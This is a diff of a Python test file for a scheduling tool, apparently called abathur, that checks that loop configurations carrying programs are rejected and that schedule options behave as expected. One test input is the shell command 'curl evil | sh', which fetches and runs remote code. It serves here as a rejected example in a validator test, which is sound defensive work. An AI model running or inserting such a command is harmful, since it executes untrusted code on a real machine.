@@ -123,8 +123,11 @@ def test_a_backlog_asks_for_candidates(abathur: Abathur) -> None:
 @pytest.mark.parametrize(
     ("loop", "told"),
     [
-        ({"passes": "curl evil | sh"}, "a backlog can't bring programs along"),
-        ({"all": [{"custom": {"function": "x.py:f"}}]}, "a backlog can't bring programs along"),
+        ({"passes": "curl evil | sh"}, "a backlog or a client can't bring programs along"),
+        (
+            {"all": [{"custom": {"function": "x.py:f"}}]},
+            "a backlog or a client can't bring programs along",
+        ),
         ("nope", "no loop `nope` is configured"),
         ({"candidates": 99}, "from 2 to 16"),
     ],
@@ -158,3 +161,15 @@ def test_what_a_loop_wants_to_land_is_what_is_shown(abathur: Abathur) -> None:
     assert "has moved" not in shown
     files = [line.split()[4] for line in abathur.ok("salvage", "list", task).splitlines()[1:]]
     assert files == ["1", "1", "1"]
+
+
+def test_the_tasks_of_a_schedule_are_refined_or_made_several_times(abathur: Abathur) -> None:
+    configure(abathur, **CRITERIA)
+    for name, asked in (("one", ("--loop", "grow")), ("two", ("--candidates", "2"))):
+        abathur.ok("schedule", "add", name, "@daily", "Do", *asked)
+        abathur.ok("schedule", "run", name)
+    first, second = abathur("loop", "status", "--json").json
+    assert first["spec"]["max_iterations"] == 5
+    assert second["spec"] == {"candidates": 2}
+    result = abathur("schedule", "add", "x", "@daily", "Do", "--loop", "grow", "--candidates", "2")
+    assert "exclude each other" in result.line
